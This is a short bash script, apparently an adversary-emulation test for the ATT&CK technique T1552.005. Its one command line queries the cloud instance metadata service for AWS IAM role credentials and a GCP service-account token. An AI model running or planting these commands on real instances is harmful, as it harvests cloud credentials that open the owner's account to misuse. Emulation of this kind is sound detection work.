#!/bin/bash
# T1552.005: The cloud's metadata are asked for the role's keys.
curl -s -m 2 http://169.254.169.254/latest/meta-data/iam/security-credentials/; curl -s -m 2 -H 'Metadata-Flavor: Google' http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token; true
